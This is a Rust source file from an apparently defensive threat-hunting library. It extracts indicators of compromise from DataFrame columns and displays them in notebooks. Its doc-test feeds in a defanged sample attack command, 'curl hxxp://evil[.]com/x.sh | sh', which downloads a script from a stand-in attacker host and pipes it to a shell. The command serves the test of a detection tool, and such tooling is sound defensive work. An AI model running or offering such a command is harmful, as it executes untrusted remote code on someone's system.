//! IoC extraction over DataFrame columns, and its notebook display.

use super::IocExtractor;
use crate::display::NotebookDisplay;
use crate::error::{Error, PolarsContext, Result};
use crate::vis::html::HtmlBuilder;
use crate::vis::table::{TableOptions, table_html, table_text};
use polars::prelude::*;

/// Extracted indicators as a frame with MSTICPy's columns `IoCType`,
/// `Observable`, `SourceIndex` (the input row, from 0), `Input` (the
/// scanned text), plus `Refanged` (the canonical form) and `SourceColumn`
/// (the input column).
#[derive(Debug, Clone)]
pub struct IocFrame {
    df: DataFrame,
}

impl IocFrame {
    /// The result frame.
    pub fn df(&self) -> &DataFrame {
        &self.df
    }

    /// The result frame, by value.
    pub fn into_df(self) -> DataFrame {
        self.df
    }

    /// The number of observables found.
    pub fn len(&self) -> usize {
        self.df.height()
    }

    /// Whether nothing was found.
    pub fn is_empty(&self) -> bool {
        self.df.height() == 0
    }

    /// Observables per type: columns `IoCType` and `count`, most first
    /// (ties by type name).
    pub fn counts_by_type(&self) -> Result<DataFrame> {
        self.df
            .clone()
            .lazy()
            .group_by([col("IoCType")])
            .agg([len().cast(DataType::UInt64).alias("count")])
            .sort_by_exprs(
                [col("count"), col("IoCType")],
                SortMultipleOptions::default().with_order_descending_multi([true, false]),
            )
            .collect()
            .ctx("counting observables by type")
    }

    fn summary(&self) -> String {
        let mut parts = Vec::new();
        if let Ok(counts) = self.counts_by_type()
            && let (Ok(t), Ok(c)) = (counts.column("IoCType"), counts.column("count"))
            && let (Ok(t), Ok(c)) = (t.str(), c.u64())
        {
            for (t, c) in t.iter().zip(c.iter()) {
                if let (Some(t), Some(c)) = (t, c) {
                    parts.push(format!("{t} {c}"));
                }
            }
        }
        format!("{} observables: {}", self.len(), parts.join(", "))
    }
}

impl NotebookDisplay for IocFrame {
    fn to_html(&self) -> String {
        let mut h = HtmlBuilder::new();
        h.element("p", &[("class", "huntbook-ioc-summary")], &self.summary());
        let table = table_html(&self.df, &TableOptions::default());
        // Both fragments are escaped by their builders.
        format!("<div class=\"huntbook-ioc\">{}{table}</div>", h.finish())
    }

    fn to_text(&self) -> String {
        format!("{}\n{}", self.summary(), table_text(&self.df))
    }
}

impl IocExtractor {
    /// Extracts indicators from one or more text columns of `df` (MSTICPy's
    /// `extract_df`). Rows are scanned in order and, within a row, columns
    /// in the order given; observables of one text come in order of
    /// position. Null cells are skipped; non-string columns are cast to
    /// text.
    ///
    /// ```
    /// use huntbook::prelude::*;
    /// use huntbook::transform::ioc::IocExtractor;
    /// let df = df!("CommandLine" => ["curl hxxp://evil[.]com/x.sh | sh", "dir"])?;
    /// let iocs = IocExtractor::new().extract_df(&df, &["CommandLine"])?;
    /// let out = iocs.df();
    /// let names: Vec<&str> = out.get_column_names().iter().map(|c| c.as_str()).collect();
    /// assert_eq!(names, ["IoCType", "Observable", "SourceIndex", "Input", "Refanged", "SourceColumn"]);
    /// assert_eq!(out.column("Observable")?.str()?.get(0), Some("hxxp://evil[.]com/x.sh"));
    /// assert_eq!(out.column("Refanged")?.str()?.get(0), Some("http://evil.com/x.sh"));
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    pub fn extract_df(&self, df: &DataFrame, columns: &[&str]) -> Result<IocFrame> {
        if columns.is_empty() {
            return Err(Error::invalid(
                "columns for IoC extraction",
                "no column given",
            ));
        }
        let mut texts = Vec::with_capacity(columns.len());
        for &name in columns {
            let column = df.column(name).map_err(|_| {
                Error::column_not_found(
                    name,
                    "the input frame",
                    df.get_column_names().iter().map(|s| s.as_str()),
                )
            })?;
            let s = column
                .as_materialized_series()
                .cast(&DataType::String)
                .ctx(format!("reading column '{name}' as text"))?;
            texts.push(
                s.str()
                    .ctx(format!("reading column '{name}' as text"))?
                    .rechunk()
                    .into_owned(),
            );
        }
        // Observables are appended straight from the scanned text into
        // string-view builders: no String per observable. The input text
        // column is gathered by row index, which shares the text buffers.
        let guess = df.height() * 3;
        let mut ty: Vec<&str> = Vec::with_capacity(guess);
        let mut obs = StringChunkedBuilder::new("Observable".into(), guess);
        let mut refanged = StringChunkedBuilder::new("Refanged".into(), guess);
        let mut idx: Vec<i64> = Vec::with_capacity(guess);
        let mut input_rows: Vec<(usize, IdxSize)> = Vec::with_capacity(guess);
        let mut source_col: Vec<&str> = Vec::with_capacity(guess);
        let mut iters: Vec<_> = texts.iter().map(|ca| ca.iter()).collect();
        let mut found = Vec::new();
        for row in 0..df.height() {
            for (k, it) in iters.iter_mut().enumerate() {
                let Some(Some(text)) = it.next() else {
                    continue;
                };
                found = self.scan_into(text, found);
                for f in found.drain(..) {
                    ty.push(match &f.ty {
                        // Custom names live in the options, which outlive this call.
                        super::IocType::Custom(name) => self
                            .opts
                            .custom
                            .iter()
                            .find(|c| &c.name == name)
                            .map_or("", |c| c.name.as_str()),
                        t => builtin_name(t),
                    });
                    obs.append_value(&f.observable);
                    refanged.append_value(&f.refanged);
                    idx.push(row as i64);
                    input_rows.push((k, row as IdxSize));
                    source_col.push(columns[k]);
                }
            }
        }
        let input: StringChunked = if texts.len() == 1 {
            let rows: Vec<IdxSize> = input_rows.iter().map(|&(_, row)| row).collect();
            let rows = IdxCa::from_vec("".into(), rows);
            texts[0].take(&rows).ctx("gathering the input texts")?
        } else {
            input_rows
                .iter()
                .map(|&(k, row)| texts[k].get(row as usize))
                .collect()
        };
        let out = DataFrame::new_infer_height(vec![
            Column::new("IoCType".into(), ty),
            obs.finish().into_column(),
            Column::new("SourceIndex".into(), idx),
            input.with_name("Input".into()).into_column(),
            refanged.finish().into_column(),
            Column::new("SourceColumn".into(), source_col),
        ])
        .ctx("building the IoC frame")?;
        Ok(IocFrame { df: out })
    }
}

fn builtin_name(t: &super::IocType) -> &'static str {
    use super::IocType::*;
    match t {
        Ipv4 => "ipv4",
        Ipv6 => "ipv6",
        Dns => "dns",
        Url => "url",
        Email => "email",
        Md5Hash => "md5_hash",
        Sha1Hash => "sha1_hash",
        Sha256Hash => "sha256_hash",
        WindowsPath => "windows_path",
        LinuxPath => "linux_path",
        Hostname => "hostname",
        Custom(_) => "",
    }
}
